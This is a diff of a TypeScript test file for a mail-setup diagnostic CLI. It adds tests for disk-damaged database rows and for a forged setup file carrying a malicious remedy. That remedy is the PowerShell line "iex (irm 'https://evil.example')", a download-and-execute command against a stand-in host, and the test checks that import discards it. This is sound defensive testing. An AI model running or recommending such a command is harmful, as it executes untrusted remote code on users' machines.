@@ -1,7 +1,16 @@
 /** What a broken disk or a hostile server left in the store is said in one sentence, and commands no terminal. */
 import { spawn } from 'node:child_process'
 import { once } from 'node:events'
-import { chmodSync, existsSync, mkdirSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs'
+import {
+  chmodSync,
+  existsSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  writeFileSync,
+} from 'node:fs'
 import path from 'node:path'
 import { DatabaseSync } from 'node:sqlite'
 import { describe, expect, onTestFinished, test } from 'vitest'
@@ -53,9 +62,14 @@ describe('a row of the store that a disk has damaged', () => {
     ['a sign-in', "UPDATE mailboxes SET authorisation = '{'"],
   ])('is one sentence and exit code 3, not a stack trace, and stays where it is: %s', async (_, damage) => {
     const { desk, cli } = await aSetup('550 no')
+    const sound = create.map((word) => (word === 'C' ? 'sound' : word))
+    if (damage.includes('setups')) expect((await cli(...sound, ...ids)).code).toBe(0)
     const db = new DatabaseSync(path.join(desk.folder, 'sendproof.db'))
-    db.exec(damage)
+    db.exec(damage.includes('setups') ? `${damage} WHERE name = 'C'` : damage)
     db.close()
+    const listed = await cli('setup', 'list')
+    expect([listed.code, listed.err.includes('“C” cannot be read')]).toEqual([3, true])
+    expect(listed.out.startsWith('sound')).toBe(damage.includes('setups'))
     const report = ['report', 'C', '--format', 'html', '--out', path.join(desk.folder, 'r.html')]
     for (const words of [['setup', 'status', 'C'], report]) {
       const ended = await cli(...words)
@@ -86,6 +100,45 @@ describe('the words of a hostile server', () => {
       expect(text + err).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/)
     }
     expect(shown[0]?.out).toContain('535 5.7.3')
+  })
+})
+
+describe('a setup file that brings a remedy of its own', () => {
+  test('is imported without it: no command out of a file is shown as advice', async () => {
+    const { desk, cli } = await aSetup('554 5.2.252 SendAsDenied')
+    const out = (name: string) => path.join(desk.folder, name)
+    expect((await cli('setup', 'export', 'C', '--out', out('C.json'))).code).toBe(0)
+    const document = JSON.parse(readFileSync(out('C.json'), 'utf8')) as {
+      runs: { probes: { diagnosis: unknown }[] }[]
+    }
+    const [probe] = document.runs.flatMap(({ probes }) => probes)
+    if (probe === undefined) throw new Error('no attempt was exported')
+    const remedy = { role: 'you', text: 'Run this.', portal: [], command: "iex (irm 'https://evil.example')" }
+    probe.diagnosis = {
+      candidates: [
+        {
+          ...{ tag: 'send_as_denied', confidence: 0.9, title: 'Run this', explanation: 'evil' },
+          ...{ remedies: [remedy], links: ['https://learn.microsoft.com/evil'] },
+        },
+      ],
+      questions: [],
+    }
+    writeFileSync(out('forged.json'), JSON.stringify(document))
+    const victim = new Desk()
+    onTestFinished(() => victim.close())
+    const taken = await cliHere(victim.folder, 'setup', 'import', out('forged.json'))
+    expect(taken).toMatchObject({ code: 0 })
+    const report = await cliHere(victim.folder, 'report', 'C', '--format', 'html', '--out', out('r.html'))
+    expect(report.code).toBe(0)
+    const html = readFileSync(out('r.html'), 'utf8')
+    expect(html).toContain('SendAsDenied')
+    expect(html).not.toMatch(/evil|iex|Run this/)
+    const { app, ports, ...composed } = await composedHere(victim.folder)
+    const [run] = ports.runs.listRuns(app.setups.list().cards[0]?.id ?? '')
+    const kept = JSON.stringify(ports.runs.probes(run?.id ?? ''))
+    await composed.close()
+    expect(kept).toContain('Add-RecipientPermission')
+    expect(kept).not.toMatch(/evil|iex|Run this/)
   })
 })
 
